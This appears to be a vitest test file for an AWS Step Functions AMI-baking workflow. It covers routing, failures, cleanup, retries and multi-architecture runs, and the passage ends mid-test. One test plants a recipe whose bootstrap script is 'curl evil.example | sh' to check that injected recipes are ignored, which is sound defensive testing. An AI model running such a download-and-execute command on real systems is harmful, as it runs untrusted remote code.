import { EventBridgeClient, PutEventsCommand } from '@aws-sdk/client-eventbridge';
import { StateMachine, type StateMachineDefinition } from 'aws-local-stepfunctions';
import { mockClient } from 'aws-sdk-client-mock';
import { beforeEach, describe, expect, it } from 'vitest';
import { publishEvent, publishInputSchema } from '../../functions/publish-event/core.js';
import type { Architecture } from '../../lib/recipe/schema.js';
import { type BakeContext, type ResolvedRecipe, resolvedRecipeSchema } from '../../lib/state.js';
import { describedChildFailure } from '../../lib/workflow/group.js';
import type { ChildState, StateName, StateResults } from '../../lib/workflow/states.js';
// Also polyfills Promise.withResolvers, which the interpreter calls (at run time) and Node 20 lacks.
import { loadDefinition, localStateMachineArn } from '../../local/definition.js';
import { baseImage } from '../fixtures/base-image.js';

/**
 * The real statemachine/bake.asl.yml, run by aws-local-stepfunctions with small fakes behind each
 * Task state: how the workflow routes data and failures, not what the functions do.
 */

type Json = Parameters<StateMachine['run']>[0];
type EventLog = ReturnType<StateMachine['run']>['eventLogs'] extends AsyncGenerator<infer E> ? E : never;
/** Stands in for the Lambda behind a Task state; returns what the handler would. */
type Fake = (input: Json) => unknown;

const REGION = 'us-east-1';
const BAKE_ID = 'bake-20261126-0001abcd';
const TASK_TOKEN = 'task-token-from-the-context-object';
const STATE_MACHINE_ARN = 'arn:aws:states:us-east-1:123456789012:stateMachine:ami-bake';
const at = (second: number) => new Date(Date.UTC(2026, 10, 26, 4, 40, second)).toISOString();

const definition = loadDefinition(REGION);

/** The bake's execution input: a recipe name, never a recipe (ResolveRecipe loads it from the catalog). */
const bakeInput = { bakeId: BAKE_ID, recipeName: 'web', request: { source: 'api' } };

/** The catalog's recipe, as ResolveRecipe returns it in the state. */
const recipe: ResolvedRecipe = resolvedRecipeSchema.parse({
  name: 'web',
  base: { imageId: 'ami-0123456789abcdef0' },
  builder: { instanceType: 't3.small' },
  bootstrap: { platform: 'linux', script: 'echo hi' },
  // It distributes, so the happy path runs DistributeImage (a recipe that does not skips it, below).
  distribution: { regions: [REGION, 'eu-west-1', 'ap-southeast-2'], ssmParameter: '/ami-bake/web/image-id' },
});

const context: BakeContext = {
  bakeId: BAKE_ID,
  shortId: '0001abcd',
  recipeName: 'web',
  recipeHash: 'a'.repeat(64),
  contentKey: 'c'.repeat(64),
  buildRegion: REGION,
  base: baseImage,
  imageName: 'web-20261126-044000-0001abcd',
  copyTargets: [{ region: 'eu-west-1' }, { region: 'ap-southeast-2', kmsKeyId: 'alias/ami' }],
  budgets: { bootstrapSeconds: 1800, imageSeconds: 3600, copySeconds: 7200, testSeconds: 900 },
  // The recipe's `test`: one test instance per type (TestOrNot skips TestImage without it).
  tests: [{ instanceType: 't3.small' }, { instanceType: 'm5.large' }],
  startedAt: at(0),
  at: at(1),
};

interface WaitInput {
  FunctionName: string;
  Payload: {
    taskToken: string;
    kind: string;
    bakeId: string;
    region: string;
    resourceId: string;
    budgetSeconds: number;
  };
}

/** A fake for a described state: returns that state's result type (lib/workflow/states.ts). */
type TypedFakes = {
  [S in Exclude<StateName, 'CopyImages' | 'BakeArchitectures' | 'TestImage'>]: (
    input: Json,
  ) => StateResults[S] | Promise<StateResults[S]>;
};

/** Plausible outputs of every Task state, in the shapes the handlers return. */
function happyFakes(): Record<string, Fake> {
  const fakes: TypedFakes = {
    ResolveRecipe: (input) => ({ ...(input as typeof bakeInput), recipe, context }),
    PublishBakeStarted: () => ({ detailType: 'Bake Started', eventId: 'evt-started' }),
    LaunchBuilder: () => ({ instanceId: 'i-0builder00000001', region: REGION, at: at(2) }),
    WaitForBuilder: () => ({ outcome: 'success', exitCode: 0, at: at(10) }),
    StopBuilder: () => ({ at: at(11) }),
    CreateImage: () => ({ imageId: 'ami-0source000000001', region: REGION, at: at(12) }),
    WaitForImage: (input) => {
      const { Payload } = input as unknown as WaitInput;
      return {
        region: Payload.region,
        imageId: Payload.resourceId,
        snapshotIds: ['snap-0source000000001'],
        at: at(20),
      };
    },
    LaunchTest: (input) => {
      const { test } = input as { test: { instanceType: string } };
      return {
        instanceId: `i-0test-${test.instanceType}`,
        instanceType: test.instanceType,
        region: REGION,
        at: at(21),
      };
    },
    WaitForTest: () => ({ outcome: 'success', exitCode: 0, logTail: 'ok', at: at(24) }),
    TerminateTest: (input) => {
      const { instance } = input as { instance: { instanceId: string; instanceType: string } };
      return { ...instance, outcome: 'passed', exitCode: 0, logTail: 'ok', secondsToDone: 3, at: at(25) };
    },
    CopyImage: (input) => {
      const { target } = input as { target: { region: string } };
      return { region: target.region, imageId: `ami-0copy-${target.region}`, at: at(21) };
    },
    WaitForCopy: (input) => {
      const { Payload } = input as unknown as WaitInput;
      return {
        region: Payload.region,
        imageId: Payload.resourceId,
        snapshotIds: [`snap-${Payload.region}`],
        at: at(30),
      };
    },
    FinalizeImage: () => ({
      images: { [REGION]: { imageId: 'ami-0source000000001', snapshotIds: ['snap-0source000000001'] } },
      at: at(31),
    }),
    TerminateBuilder: () => ({ instanceIds: ['i-0builder00000001'], at: at(32) }),
    DistributeImage: () => ({ parameters: [], launchTemplates: [], at: at(33) }),
    // startExecution.sync:2 answers with the child execution; OutputPath keeps its Output.
    BakeArchitecture: (input) => {
      const { Input } = input as { Input: { bakeId: string; architecture: Architecture } };
      return {
        ExecutionArn: `arn:aws:states:${REGION}:123456789012:execution:ami-bake:${Input.bakeId}`,
        Status: 'SUCCEEDED',
        Output: childState(Input.bakeId, Input.architecture),
      } as unknown as StateResults['BakeArchitecture'];
    },
    PublishBakeSucceeded: () => ({ detailType: 'Bake Succeeded', eventId: 'evt-succeeded' }),
    Cleanup: () => ({ terminatedInstances: [], deregisteredImages: [], deletedSnapshots: [], problems: [] }),
    // The real core, so the state as the ASL builds it must pass the publish schema.
    PublishBakeFailed: (input) =>
      publishEvent(publishInputSchema.parse(input), {
        events,
        busName: 'ami-bake',
        now: () => new Date(at(40)),
      }),
  };
  return fakes;
}

const events = new EventBridgeClient({ region: REGION });
const eventsMock = mockClient(events);

/** The state's happy fake, failing its first invocation with `error`; `attempts()` counts them all. */
function failingOnce(state: string, error: string) {
  let attempts = 0;
  const fake: Fake = (input) => {
    attempts += 1;
    if (attempts === 1) throw named(error);
    const happy = happyFakes()[state];
    if (!happy) throw new Error(`no fake for ${state}`);
    return happy(input);
  };
  return { fake, attempts: () => attempts };
}

/** For Cleanup, a TerminateBuilder that fails for good, so that the bake reaches Cleanup at all. */
function reachingCleanup(state: string): Record<string, Fake> {
  return state === 'Cleanup'
    ? { TerminateBuilder: () => Promise.reject(named('UnauthorizedOperation')) }
    : {};
}

function named(name: string, message = `${name} thrown by a fake`): Error {
  const error = new Error(message);
  error.name = name;
  return error;
}

interface Run {
  status: 'succeeded' | 'failed';
  output?: unknown;
  error?: Error & { cause?: Error };
  /** Top-level states in the order they were entered. */
  visited: string[];
  /** Inputs each Task fake received, in call order. */
  calls: Record<string, Json[]>;
  /** Detail of the Bake Failed event the real publishEvent sent, if any. */
  failedDetail?: Record<string, unknown>;
}

async function run(
  overrides: Record<string, Fake> = {},
  retryIntervalOverrides: Record<string, number> = {},
  input: Json = bakeInput,
): Promise<Run> {
  const fakes = { ...happyFakes(), ...overrides };
  const calls: Record<string, Json[]> = {};
  const handlers: Record<string, (input: Json) => Promise<Json>> = {};
  for (const state of [...Object.keys(definition.tasks), ...definition.children]) {
    const fake = fakes[state];
    if (!fake) throw new Error(`no fake for Task state ${state}`);
    handlers[state] = async (input) => {
      calls[state] = [...(calls[state] ?? []), input];
      return (await fake(input)) as Json;
    };
  }
  const machine = new StateMachine(definition.asl as unknown as StateMachineDefinition, {
    validationOptions: { checkPaths: true, checkArn: true },
  });
  const execution = machine.run(input, {
    overrides: { taskResourceLocalHandlers: handlers, retryIntervalOverrides },
    context: {
      Execution: { Id: `local:${BAKE_ID}`, Name: BAKE_ID },
      StateMachine: { Id: STATE_MACHINE_ARN, Name: 'ami-bake' },
      Task: { Token: TASK_TOKEN },
    },
  });
  const collected: EventLog[] = [];
  const collecting = (async () => {
    for await (const event of execution.eventLogs) collected.push(event);
  })();
  let result: Pick<Run, 'status' | 'output' | 'error'>;
  try {
    result = { status: 'succeeded', output: await execution.result };
  } catch (error) {
    result = { status: 'failed', error: error as Run['error'] };
  }
  await collecting;
  const visited = collected.flatMap((e) =>
    e.type === 'StateEntered' && e.index === undefined ? [e.state.name] : [],
  );
  const detail = eventsMock.commandCalls(PutEventsCommand)[0]?.args[0].input.Entries?.[0]?.Detail;
  return {
    ...result,
    visited,
    calls,
    failedDetail: detail ? (JSON.parse(detail) as Record<string, unknown>) : undefined,
  };
}

beforeEach(() => {
  eventsMock.reset();
  eventsMock.on(PutEventsCommand).resolves({ FailedEntryCount: 0, Entries: [{ EventId: 'evt-failed' }] });
});

const HAPPY_PATH = [
  'ResolveRecipe',
  'Announce',
  'PublishBakeStarted',
  'Fanout',
  'LaunchBuilder',
  'WaitForBuilder',
  'StopBuilder',
  'CreateImage',
  'WaitForImage',
  'TestOrNot',
  'TestImage',
  'CopyImages',
  'FinalizeImage',
  'TerminateBuilder',
  'Member',
  'DistributeImage',
  'PublishBakeSucceeded',
  'BakeSucceeded',
];

/** Where every failure of a bake that is not a child of a group ends. */
const FAILED_END = ['Cleanup', 'Ended', 'PublishBakeFailed', 'BakeFailed'];

describe('the bake workflow, when every state succeeds', () => {
  it('visits the states in the documented order and succeeds without cleaning up', async () => {
    // Act
    const result = await run();

    // Assess
    expect(result.status).toBe('succeeded');
    expect(result.visited).toEqual(HAPPY_PATH);
    expect(result.calls.Cleanup).toBeUndefined();
    expect(result.calls.PublishBakeFailed).toBeUndefined();
  });

  it('hands later states the recipe ResolveRecipe loaded, never one smuggled into the execution input', async () => {
    // Prepare
    const smuggled = { ...recipe, bootstrap: { platform: 'linux', script: 'curl evil.example | sh' } };

    // Act
    const result = await run({}, {}, { ...bakeInput, recipe: smuggled });

    // Assess
    expect(result.status).toBe('succeeded');
    for (const state of ['LaunchBuilder', 'CreateImage', 'FinalizeImage'])
      expect(result.calls[state]?.[0], state).toMatchObject({ recipe, context: { bakeId: BAKE_ID } });
    const copies = (result.calls.CopyImage ?? []) as { recipe: unknown }[];
    expect(copies.every((c) => JSON.stringify(c.recipe) === JSON.stringify(recipe))).toBe(true);
  });

  it('runs one CopyImage and one WaitForCopy per copy target and hands every copy to FinalizeImage', async () => {
    // Act
    const result = await run();

    // Assess
    const copyInputs = (result.calls.CopyImage ?? []) as {
      target: { region: string };
      image: { imageId: string };
      context: { bakeId: string };
    }[];
    expect(copyInputs.map((i) => i.target).sort((a, b) => a.region.localeCompare(b.region))).toEqual([
      { region: 'ap-southeast-2', kmsKeyId: 'alias/ami' },
      { region: 'eu-west-1' },
    ]);
    expect(
      copyInputs.every((i) => i.image.imageId === 'ami-0source000000001' && i.context.bakeId === BAKE_ID),
    ).toBe(true);
    const waits = (result.calls.WaitForCopy ?? []) as unknown as WaitInput[];
    expect(waits.map((w) => [w.Payload.region, w.Payload.resourceId]).sort()).toEqual([
      ['ap-southeast-2', 'ami-0copy-ap-southeast-2'],
      ['eu-west-1', 'ami-0copy-eu-west-1'],
    ]);
    const finalize = result.calls.FinalizeImage?.[0] as {
      copies: { region: string; imageId: string; snapshotIds: string[] }[];
    };
    expect(finalize.copies).toEqual([
      { region: 'eu-west-1', imageId: 'ami-0copy-eu-west-1', snapshotIds: ['snap-eu-west-1'], at: at(30) },
      {
        region: 'ap-southeast-2',
        imageId: 'ami-0copy-ap-southeast-2',
        snapshotIds: ['snap-ap-southeast-2'],
        at: at(30),
      },
    ]);
  });

  it('gives each callback wait the task token, the resource and its budget from the context', async () => {
    // Act
    const result = await run();

    // Assess
    const [builderWait] = (result.calls.WaitForBuilder ?? []) as unknown as WaitInput[];
    const [imageWait] = (result.calls.WaitForImage ?? []) as unknown as WaitInput[];
    const [copyWait] = (result.calls.WaitForCopy ?? []) as unknown as WaitInput[];
    expect(builderWait?.FunctionName).toBe(
      `arn:aws:lambda:${REGION}:123456789012:function:ami-bake-local-registerWait`,
    );
    expect(builderWait?.Payload).toEqual({
      taskToken: TASK_TOKEN,
      kind: 'instance-stopped',
      bakeId: BAKE_ID,
      region: REGION,
      resourceId: 'i-0builder00000001',
      budgetSeconds: 1800,
    });
    expect(imageWait?.Payload).toMatchObject({
      kind: 'image-available',
      resourceId: 'ami-0source000000001',
      budgetSeconds: 3600,
    });
    expect(copyWait?.Payload).toMatchObject({
      kind: 'image-available',
      taskToken: TASK_TOKEN,
      budgetSeconds: 7200,
    });
  });

  it('publishes Bake Succeeded with the whole state, every stage result in place', async () => {
    // Act
    const result = await run();

    // Assess
    const published = result.calls.PublishBakeSucceeded?.[0] as {
      detailType: string;
      bake: Record<string, unknown>;
    };
    expect(published.detailType).toBe('Bake Succeeded');
    expect(Object.keys(published.bake).sort()).toEqual(
      [
        'bakeId',
        'recipeName',
        'request',
        'recipe',
        'context',
        'builder',
        'bootstrap',
        'stopped',
        'image',
        'imageReady',
        'tests',
        'copies',
        'finalized',
        'terminated',
        'distributed',
      ].sort(),
    );
    expect(publishInputSchema.safeParse(published).success).toBe(true);
  });
});

describe('the bake workflow, with and without a launch test', () => {
  it('skips TestImage for a recipe without `test`: straight from TestOrNot to CopyImages', async () => {
    // Prepare
    const { tests: _, ...untested } = context;
    const budgets = { ...context.budgets, testSeconds: undefined };

    // Act
    const result = await run({
      ResolveRecipe: (input) => ({
        ...(input as typeof bakeInput),
        recipe,
        context: { ...untested, budgets },
      }),
    });

    // Assess
    expect(result.status).toBe('succeeded');
    expect(result.visited).toEqual(HAPPY_PATH.filter((s) => s !== 'TestImage'));
    expect(result.calls.LaunchTest).toBeUndefined();
    const published = result.calls.PublishBakeSucceeded?.[0] as { bake: Record<string, unknown> };
    expect(published.bake.tests).toBeUndefined();
  });

  it('skips DistributeImage for a recipe that distributes nothing: straight from Member to PublishBakeSucceeded', async () => {
    // Prepare
    const { ssmParameter: _, ...rest } = recipe.distribution;
    const quiet = { ...recipe, distribution: rest };

    // Act
    const result = await run({
      ResolveRecipe: (input) => ({ ...(input as typeof bakeInput), recipe: quiet, context }),
    });

    // Assess
    expect(result.status).toBe('succeeded');
    expect(result.visited).toEqual(HAPPY_PATH.filter((s) => s !== 'DistributeImage'));
    expect(result.calls.DistributeImage).toBeUndefined();
  });

  it('runs DistributeImage for a recipe that names launch templates only', async () => {
    const { ssmParameter: _, ...rest } = recipe.distribution;
    const templated = {
      ...recipe,
      distribution: { ...rest, launchTemplates: [{ name: 'web', setDefault: true }] },
    };

    const result = await run({
      ResolveRecipe: (input) => ({ ...(input as typeof bakeInput), recipe: templated, context }),
    });

    expect(result.visited).toEqual(HAPPY_PATH);
  });

  it('launches one test instance per type from the new image, waits with the test budget, and records each pass under $.tests', async () => {
    // Act
    const result = await run();

    // Assess
    const launches = (result.calls.LaunchTest ?? []) as {
      test: { instanceType: string };
      image: { imageId: string };
    }[];
    expect(launches.map((l) => l.test.instanceType).sort()).toEqual(['m5.large', 't3.small']);
    expect(launches.every((l) => l.image.imageId === 'ami-0source000000001')).toBe(true);
    const waits = (result.calls.WaitForTest ?? []) as unknown as WaitInput[];
    expect(waits.map((w) => w.Payload.resourceId).sort()).toEqual(['i-0test-m5.large', 'i-0test-t3.small']);
    expect(waits.every((w) => w.Payload.kind === 'instance-stopped' && w.Payload.budgetSeconds === 900)).toBe(
      true,
    );
    const copy = result.calls.CopyImage?.[0] as { context: { tests?: unknown } };
    expect(copy.context.tests).toEqual(context.tests);
    const published = result.calls.PublishBakeSucceeded?.[0] as {
      bake: { tests?: { instanceType: string }[] };
    };
    expect(published.bake.tests?.map((t) => t.instanceType)).toEqual(['t3.small', 'm5.large']);
  });
});

/** Each Task state, the stage its failure is recorded under, and an error it could really throw. */
const FAILURES: [state: string, stage: string, error: string][] = [
  ['ResolveRecipe', 'ResolveRecipe', 'RecipeInvalidError'],
  ['PublishBakeStarted', 'PublishBakeStarted', 'EventNotPublishedError'],
  ['LaunchBuilder', 'LaunchBuilder', 'InvalidSubnetID.NotFound'],
  ['WaitForBuilder', 'WaitForBuilder', 'BootstrapFailedError'],
  ['StopBuilder', 'StopBuilder', 'BootstrapNoResultError'],
  ['CreateImage', 'CreateImage', 'InvalidAMIName.Duplicate'],
  ['WaitForImage', 'WaitForImage', 'ImageFailedError'],
  ['LaunchTest', 'TestImage', 'InvalidParameterValue'],
  ['WaitForTest', 'TestImage', 'TestFailedError'],
  ['TerminateTest', 'TestImage', 'UnauthorizedOperation'],
  ['CopyImage', 'CopyImages', 'InvalidAMIID.NotFound'],
  ['WaitForCopy', 'CopyImages', 'ImageFailedError'],
  ['FinalizeImage', 'FinalizeImage', 'ImageFailedError'],
  ['TerminateBuilder', 'TerminateBuilder', 'UnauthorizedOperation'],
  ['DistributeImage', 'DistributeImage', 'DistributionFailedError'],
];

describe('the bake workflow, when a state fails', () => {
  it('has a failure case for every Task state of the definition except the failure path itself', () => {
    // PublishBakeSucceeded fails after the images are delivered: its own describe block below.
    expect(FAILURES.map(([state]) => state).sort()).toEqual(
      Object.keys(definition.tasks)
        .filter((s) => !['Cleanup', 'PublishBakeFailed', 'PublishBakeSucceeded'].includes(s))
        .sort(),
    );
  });

  it.each(FAILURES)(
    '%s: cleans up, publishes Bake Failed naming stage %s and error %s, and ends failed',
    async (state, stage, name) => {
      // Prepare
      const failing: Fake = () => {
        throw named(name, `${state} could not do its job`);
      };

      // Act
      const result = await run({ [state]: failing });

      // Assess
      expect(result.status).toBe('failed');
      expect(result.error?.cause?.name).toBe('BakeFailed');
      expect(result.visited.slice(-4)).toEqual(FAILED_END);
      const happyUpToStage = HAPPY_PATH.slice(0, HAPPY_PATH.indexOf(stage) + 1);
      expect(result.visited).toEqual([...happyUpToStage, ...FAILED_END]);
      expect(result.calls.Cleanup).toHaveLength(1);
      // A failed ResolveRecipe loaded no recipe: there is nothing to clean up beyond the build region.
      expect(result.calls.Cleanup?.[0]).toMatchObject({
        bakeId: BAKE_ID,
        recipeName: 'web',
        ...(state === 'ResolveRecipe' ? {} : { recipe }),
      });
      const published = result.calls.PublishBakeFailed?.[0] as {
        detailType: string;
        bake: { failure: Record<string, unknown> };
      };
      expect(published.detailType).toBe('Bake Failed');
      expect(Object.keys(published.bake.failure)).toEqual([stage]);
      expect(published.bake.failure[stage]).toMatchObject({
        Error: name,
        Cause: expect.stringContaining(`${state} could not do its job`),
      });
      // Even a bake that failed to load its recipe is announced under the recipe's name.
      expect(result.failedDetail).toMatchObject({
        bakeId: BAKE_ID,
        stage,
        error: name,
        recipe: { name: 'web' },
      });
    },
  );

  it('keeps the state earlier stages produced, for Cleanup and the event', async () => {
    // Act
    const result = await run({ CreateImage: () => Promise.reject(named('InvalidAMIName.Duplicate')) });

    // Assess
    expect(result.calls.Cleanup?.[0]).toMatchObject({
      context: { bakeId: BAKE_ID },
      builder: { instanceId: 'i-0builder00000001' },
      stopped: { at: at(11) },
    });
  });

  it('retries an incomplete Cleanup, then still publishes Bake Failed with the cleanup failure', async () => {
    // Act
    const result = await run(
      {
        WaitForImage: () => {
          throw named('ImageFailedError');
        },
        Cleanup: () => {
          throw named('CleanupIncompleteError', 'eu-west-1: UnauthorizedOperation: not allowed');
        },
      },
      { Cleanup: 0 },
    );

    // Assess
    expect(result.calls.Cleanup?.length).toBe(5); // the first try and 4 retries
    expect(result.status).toBe('failed');
    expect(result.error?.cause?.name).toBe('BakeFailed');
    expect(result.visited.slice(-4)).toEqual(FAILED_END);
    const published = result.calls.PublishBakeFailed?.[0] as { bake: Record<string, unknown> };
    expect(Object.keys(published.bake.failure as object)).toEqual(['WaitForImage']);
    expect(published.bake.cleanupFailure).toMatchObject({ Error: 'CleanupIncompleteError' });
    expect(result.failedDetail).toMatchObject({
      stage: 'WaitForImage',
      cleanup: {
        problems: [
          expect.stringContaining('cleanup failed: CleanupIncompleteError: eu-west-1: UnauthorizedOperation'),
        ],
      },
    });
  });

  it('ends failed, not stuck, when even the Bake Failed event cannot be published', async () => {
    // Act
    const result = await run({
      LaunchBuilder: () => {
        throw named('InvalidSubnetID.NotFound');
      },
      PublishBakeFailed: () => {
        throw named('EventNotPublishedError');
      },
    });

    // Assess
    expect(result.status).toBe('failed');
    expect(result.error?.cause?.name).toBe('BakeFailed');
    expect(result.visited.slice(-4)).toEqual(FAILED_END);
  });
});

describe('the bake workflow, retrying', () => {
  it.each(['ResolveRecipe', 'LaunchBuilder', 'CreateImage', 'CopyImage', 'WaitForCopy', 'Cleanup'])(
    '%s: retries a Lambda.ServiceException and carries on',
    async (state) => {
      // Prepare
      const flaky = failingOnce(state, 'Lambda.ServiceException');

      // Act
      const result = await run({ ...reachingCleanup(state), [state]: flaky.fake }, { [state]: 0 });

      // Assess: one failed attempt, then one success per invocation (two inside the Map).
      const invocations = state === 'CopyImage' || state === 'WaitForCopy' ? context.copyTargets.length : 1;
      expect(flaky.attempts()).toBe(invocations + 1);
      expect(result.visited).toEqual(
        state === 'Cleanup'
          ? [...HAPPY_PATH.slice(0, HAPPY_PATH.indexOf('TerminateBuilder') + 1), ...FAILED_END]
          : HAPPY_PATH,
      );
    },
  );

  it.each([
    ['StopBuilder', 'ThrottlingException'],
    ['CreateImage', 'ImageNotYetVisibleError'],
    ['CopyImage', 'Unavailable'],
    ['FinalizeImage', 'InternalFailure'],
    ['PublishBakeStarted', 'EventThrottledError'],
    ['PublishBakeSucceeded', 'InternalException'],
    ['Cleanup', 'TimeoutError'],
  ])('%s: retries a transient %s and carries on', async (state, error) => {
    // Prepare
    const flaky = failingOnce(state, error);

    // Act
    const result = await run({ ...reachingCleanup(state), [state]: flaky.fake }, { [state]: 0 });

    // Assess
    const invocations = state === 'CopyImage' ? context.copyTargets.length : 1;
    expect(flaky.attempts()).toBe(invocations + 1);
    expect(result.visited).toEqual(
      state === 'Cleanup'
        ? [...HAPPY_PATH.slice(0, HAPPY_PATH.indexOf('TerminateBuilder') + 1), ...FAILED_END]
        : HAPPY_PATH,
    );
  });

  it('StopBuilder retries BuilderNotStoppedError while the builder stops, then goes on to imaging', async () => {
    // Prepare
    let attempts = 0;
    const stopping: Fake = () => {
      attempts += 1;
      if (attempts < 4) throw named('BuilderNotStoppedError');
      return { at: at(11) };
    };

    // Act
    const result = await run({ StopBuilder: stopping }, { StopBuilder: 0 });

    // Assess
    expect(attempts).toBe(4);
    expect(result.status).toBe('succeeded');
  });

  it('StopBuilder gives up after its 8 retries of BuilderNotStoppedError and cleans up', async () => {
    // Prepare
    let attempts = 0;
    const neverStops: Fake = () => {
      attempts += 1;
      throw named('BuilderNotStoppedError');
    };

    // Act
    const result = await run({ StopBuilder: neverStops }, { StopBuilder: 0 });

    // Assess
    expect(attempts).toBe(9);
    expect(result.failedDetail).toMatchObject({ stage: 'StopBuilder', error: 'BuilderNotStoppedError' });
  });

  it('does not retry a named bake error', async () => {
    // Prepare
    let attempts = 0;
    const failing: Fake = () => {
      attempts += 1;
      throw named('ImageFailedError');
    };

    // Act
    await run({ FinalizeImage: failing }, { FinalizeImage: 0 });

    // Assess
    expect(attempts).toBe(1);
  });
});

describe('the bake workflow, when Bake Succeeded cannot be published', () => {
  /** Every earlier state ran; the images are finished, tagged and shared. */
  const DELIVERED = HAPPY_PATH.slice(0, HAPPY_PATH.indexOf('PublishBakeSucceeded') + 1);

  it.each([
    ['EventNotPublishedError', 'Bake Succeeded: InternalFailure the entry failed'],
    ['EventThrottledError', 'Bake Succeeded: ThrottlingException Rate exceeded'],
    ['ThrottlingException', 'Rate exceeded'],
    ['Lambda.TooManyRequestsException', 'Rate exceeded'],
    ['ZodError', 'images: expected record'],
  ])(
    '%s for good: keeps the images (no Cleanup) and ends in BakeSucceededUnannounced',
    async (name, message) => {
      // Prepare
      const failing: Fake = () => {
        throw named(name, message);
      };

      // Act
      const result = await run({ PublishBakeSucceeded: failing }, { PublishBakeSucceeded: 0 });

      // Assess
      expect(result.calls.Cleanup).toBeUndefined();
      expect(result.calls.PublishBakeFailed).toBeUndefined();
      expect(result.visited).toEqual([...DELIVERED, 'BakeSucceededUnannounced']);
      expect(result.status).toBe('failed');
      expect(result.error?.cause?.name).toBe('BakeSucceededNotAnnounced');
      expect(result.error?.cause?.message).toMatch(/images .*kept/);
    },
  );

  it('retries a throttled publish 24 times (about an hour of backoff) before giving up', async () => {
    // Prepare
    let attempts = 0;
    const throttled: Fake = () => {
      attempts += 1;
      throw named('ThrottlingException', 'Rate exceeded');
    };

    // Act
    const result = await run({ PublishBakeSucceeded: throttled }, { PublishBakeSucceeded: 0 });

    // Assess
    expect(attempts).toBe(25);
    expect(result.visited.at(-1)).toBe('BakeSucceededUnannounced');
  });

  it('succeeds when the event gets through after a long throttle', async () => {
    // Prepare
    let attempts = 0;
    const throttledThenPublished: Fake = () => {
      attempts += 1;
      if (attempts <= 12) throw named('EventThrottledError', 'Bake Succeeded: ThrottlingException');
      return { detailType: 'Bake Succeeded', eventId: 'evt-succeeded' };
    };

    // Act
    const result = await run({ PublishBakeSucceeded: throttledThenPublished }, { PublishBakeSucceeded: 0 });

    // Assess
    expect(result.status).toBe('succeeded');
    expect(result.visited).toEqual(HAPPY_PATH);
  });

  it('hands the failure to the final state, for status and operators', async () => {
    // Act
    const result = await run(
      { PublishBakeSucceeded: () => Promise.reject(named('EventNotPublishedError', 'AccessDenied')) },
      { PublishBakeSucceeded: 0 },
    );

    // Assess: the Fail state ends the execution; its input is what GetExecutionHistory shows.
    expect(result.visited.at(-1)).toBe('BakeSucceededUnannounced');
    const last = result.calls.PublishBakeSucceeded?.at(-1) as { bake: Record<string, unknown> };
    expect(last.bake).toMatchObject({
      finalized: { images: { [REGION]: { imageId: 'ami-0source000000001' } } },
    });
  });
});

describe('the bake workflow, for several architectures', () => {
  const CHILDREN = [
    { architecture: 'x86_64' as const, bakeId: `${BAKE_ID}-x86_64` },
    { architecture: 'arm64' as const, bakeId: `${BAKE_ID}-arm64` },
  ];
  /** A request whose recipe lists two architectures: ResolveRecipe lists the children. */
  const request: Fake = (input) => ({
    ...(input as typeof bakeInput),
    overrides: {},
    recipe,
    context: { ...context, architectures: CHILDREN },
  });
  /** A child: its input names its architecture and the request it belongs to. */
  const childInput = {
    bakeId: `${BAKE_ID}-arm64`,
    recipeName: 'web',
    overrides: {},
    request: { source: 'api' },
    architecture: 'arm64',
    group: { bakeId: BAKE_ID },
  };
  const child: Fake = (input) => ({
    ...(input as typeof childInput),
    recipe,
    context: { ...context, bakeId: childInput.bakeId, architecture: 'arm64', group: { bakeId: BAKE_ID } },
  });
  /** Fakes for Task states other parts of the workflow added that these runs never reach. */
  const unreached = (): Record<string, Fake> =>
    Object.fromEntries(
      Object.keys(definition.tasks)
        .filter((state) => !(state in happyFakes()))
        .map((state) => [state, () => ({ at: at(33) })]),
    );

  it('starts one child execution per architecture and announces the images of all of them', async () => {
    // Act
    const result = await run({ ...unreached(), ResolveRecipe: request });

    // Assess
    expect(result.status).toBe('succeeded');
    expect(result.visited.slice(0, 5)).toEqual([
      'ResolveRecipe',
      'Announce',
      'PublishBakeStarted',
      'Fanout',
      'BakeArchitectures',
    ]);
    expect(result.visited.slice(-2)).toEqual(['PublishBakeSucceeded', 'BakeSucceeded']);
    expect(result.calls.LaunchBuilder).toBeUndefined();
    const started = (result.calls.BakeArchitecture ?? []) as {
      Name: string;
      Input: Record<string, unknown>;
    }[];
    expect(started.map((s) => s.Name)).toEqual(CHILDREN.map((c) => c.bakeId));
    // This same state machine (serverless.yml's custom.stateMachineArn; locally ami-bake-local).
    expect(started.map((s) => (s as { StateMachineArn?: string }).StateMachineArn)).toEqual([
      localStateMachineArn(REGION),
      localStateMachineArn(REGION),
    ]);
    expect(started[1]?.Input).toEqual({
      bakeId: `${BAKE_ID}-arm64`,
      recipeName: 'web',
      overrides: {},
      request: { source: 'api' },
      architecture: 'arm64',
      group: { bakeId: BAKE_ID },
      AWS_STEP_FUNCTIONS_STARTED_BY_EXECUTION_ID: `local:${BAKE_ID}`,
    });
    const published = result.calls.PublishBakeSucceeded?.[0] as unknown as {
      bake: { architectures: ChildState[] };
    };
    expect(published.bake.architectures.map((c) => c.context?.architecture)).toEqual(['x86_64', 'arm64']);
  });

  it('bakes a child without announcing or distributing: its request does', async () => {
    // Act
    const result = await run({ ...unreached(), ResolveRecipe: child }, {}, childInput);

    // Assess
    expect(result.status).toBe('succeeded');
    expect(result.visited.slice(0, 3)).toEqual(['ResolveRecipe', 'Announce', 'LaunchBuilder']);
    expect(result.visited.slice(-3)).toEqual(['TerminateBuilder', 'Member', 'BakeSucceeded']);
    expect(result.calls.PublishBakeStarted).toBeUndefined();
    expect(result.calls.PublishBakeSucceeded).toBeUndefined();
    expect(result.output).toMatchObject({
      context: { architecture: 'arm64' },
      image: { imageId: 'ami-0source000000001' },
    });
  });

  it('fails a child with its stage, error and cause, cleaned up and not announced', async () => {
    // Act
    const result = await run(
      {
        ...unreached(),
        ResolveRecipe: child,
        WaitForBuilder: () => Promise.reject(named('BootstrapFailedError', 'exit 3: yum failed')),
      },
      {},
      childInput,
    );

    // Assess
    expect(result.status).toBe('failed');
    expect(result.visited.slice(-4)).toEqual(['Cleanup', 'Ended', 'DescribeFailure', 'ArchitectureFailed']);
    expect(result.calls.PublishBakeFailed).toBeUndefined();
    expect(result.error?.cause?.name).toBe('BakeFailed');
    const failure = JSON.parse(result.error?.cause?.message ?? '{}') as Record<
      string,
      { Error: string; Cause: string }
    >;
    expect(failure.WaitForBuilder).toMatchObject({
      Error: 'BootstrapFailedError',
      Cause: expect.stringContaining('yum failed'),
    });
  });

  it('fails the request when one architecture fails: cleans every child and names the failed one in Bake Failed', async () => {
    // Prepare: startExecution.sync:2 fails with the child's execution as cause.
    const failed: Fake = (input) => {
